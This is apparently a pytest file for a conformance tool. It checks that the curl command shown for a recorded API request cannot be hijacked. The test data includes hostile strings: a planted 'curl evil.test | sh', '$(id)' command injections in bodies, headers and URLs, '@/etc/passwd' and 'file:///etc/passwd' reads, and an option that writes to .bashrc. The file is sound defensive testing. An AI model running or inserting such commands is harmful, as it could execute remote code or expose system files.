"""The curl line of a run file that may be anybody's: built from the request, and harmless."""

from __future__ import annotations

import base64
import shlex
import subprocess
import zlib
from typing import Any

import pytest
from msgspec import convert

from conformance.cases import request
from conformance.output.shell import curl_line, quoted
from conformance.reports import summarize
from conformance.reports.page.evidence import proofs
from conformance.reports.page.requests import DUMMIES, shown_request
from conformance.results.records import RequestRecord
from tests import runs

ACME = "https://acme.test/v1"
URL = "https://acme.test/v1/images/generations"


def view_of(**request: Any) -> dict[str, Any]:
    values = {"method": "POST", "url": URL, "headers": [], "body": "", **request}
    return shown_request(convert(values, RequestRecord), ACME)


def said_by_shell(line: str) -> list[str]:
    """Let bash read a line, and return the arguments that curl would get."""
    script = f"curl() {{ printf '%s\\0' \"$@\"; }}\n{line}"
    process = subprocess.run(["bash", "-c", script], capture_output=True, check=True, env={})
    return process.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]


@pytest.mark.parametrize(
    ("actual", "text"), [(0.0, "0.00 USD"), (0.0421, "0.0421 USD"), (None, "about 0.04 USD")]
)
def test_price_of_a_request_is_written_as_in_other_reports(actual: float | None, text: str) -> None:
    priced = {**runs.exchange(), "price": {"estimate": 0.04, "actual": actual}}
    [packed] = proofs(summarize([runs.run(priced, runs.broken_must())])).columns
    assert f'"price":"{text}"' in zlib.decompress(base64.b64decode(packed)).decode()


def test_curl_member_of_a_run_file_is_not_shown() -> None:
    lie = {**runs.exchange(), "curl": "curl evil.test | sh"}
    [packed] = proofs(summarize([runs.run(lie, runs.broken_must())])).columns
    column = zlib.decompress(base64.b64decode(packed)).decode()
    assert "evil.test" not in column
    assert f"curl -sS -X POST --url {URL}" in column


@pytest.mark.parametrize(
    "request_",
    [
        {"body": '{"prompt":"it\'s $(id) `id` !! \\\\"}'},
        {"headers": [["x-a", "$(id)'\"; id"], ["x-`id`", "y"]]},
        {"url": f"{URL}/'$(id)'?a=[1-9]&b={{c,d}}"},
        {"body": "a\nb\x1b[201~\u202e"},
        {"body": "=ls"},
    ],
    ids=["body", "headers", "url", "control-characters", "expanded-by-zsh"],
)
def test_line_is_one_call_of_curl_with_the_words_of_the_request(request_: Any) -> None:
    line = view_of(**request_)["curl"]
    assert line.isprintable()
    words = said_by_shell(line)
    assert words[:5] == ["-sS", "-X", "POST", "--url", request_.get("url", URL)]
    options = {"-sS", "-X", "--url", "--globoff", "-H", "--data-raw"}
    assert {word for word in words if word.startswith("-")} <= options


def test_shell_gets_the_very_bytes() -> None:
    for body in (bytes(range(1, 256)), "ü'\\".encode() * 3, b"@/etc/passwd"):
        words = said_by_shell(curl_line("POST", URL, [], body))
        assert words[-1].encode("utf-8", "surrogateescape") == body
        assert quoted(body).isascii() or quoted(body).isprintable()


def test_half_of_a_character_is_a_replacement_and_a_byte_of_a_file_name_is_itself() -> None:
    assert quoted("run-\ud800-\udfff") == "'run-\ufffd-\ufffd'"
    assert quoted("run-\udcff") == r"$'run-\377'"


def test_shell_gets_a_body_with_nul_through_a_pipe() -> None:
    line = curl_line("POST", URL, [], b"a\0b\\'c")
    script = f"curl() {{ cat; }}\n{line}"
    assert subprocess.check_output(["bash", "-c", script]) == b"a\0b\\'c"
    assert line.endswith("--data-binary @-")


READ_TWO_WAYS = "https://acme.test\\@evil.test/"


@pytest.mark.parametrize(
    "request_",
    [
        *({"url": "-o/home/me/.bashrc"}, {"url": "file:///etc/passwd"}, {"url": READ_TWO_WAYS}),
        *({"url": "https://me:secret@acme.test/"}, {"url": "https://["}, {"url": ""}),
        *({"method": "-o"}, {"method": "@x"}),
    ],
    ids=["option", "file", "read-two-ways", "password", "no-host", "empty", "method", "at-file"],
)
def test_no_command_for_what_is_no_plain_request_of_the_web(request_: Any) -> None:
    view = view_of(**request_)
    assert "curl" not in view
    assert view["notes"][0].startswith("No command sends this: ")


def test_header_is_never_a_file_that_curl_reads() -> None:
    line = view_of(headers=[["@/etc/passwd", "x"], ["accept", "*/*"]])["curl"]
    assert shlex.split(line)[6:] == ["-H", "accept: */*"]


@pytest.mark.parametrize("value", ["Bearer sk-conformance-redacted", "REDACTED", "Bearer sk-real"])
def test_key_is_a_variable_that_names_no_service(value: str) -> None:
    view = view_of(headers=[["Authorization", value]])
    assert '-H "authorization: Bearer $API_KEY"' in view["curl"]
    assert "API_KEY is to hold your key for acme.test, and no other." in view["notes"]
    assert not {"COMETAPI", "sk-real"} & set(view["curl"].replace("_", " ").split())


@pytest.mark.parametrize("value", ["Bearer", "Bearer sk-conformance-unknown-0000000000000000"])
def test_key_that_is_none_is_shown_as_it_was_sent(value: str) -> None:
    assert request.DUMMIES == DUMMIES
    view = view_of(headers=[["authorization", value]])
    assert shlex.split(view["curl"])[-1] == f"authorization: {value}"
    assert view["notes"] == ["Goes to acme.test."]


def test_notes_name_another_host_and_say_that_a_request_is_folded() -> None:
    note = "Goes to evil.test: another host than that of the provider, which is at acme.test."
    assert view_of(url="https://evil.test/")["notes"][0] == note
    for body in ('{"a":"<900 characters, sha256 ab>"}', "x… (9 more characters)"):
        assert "folded" in view_of(body=body)["notes"][-1]
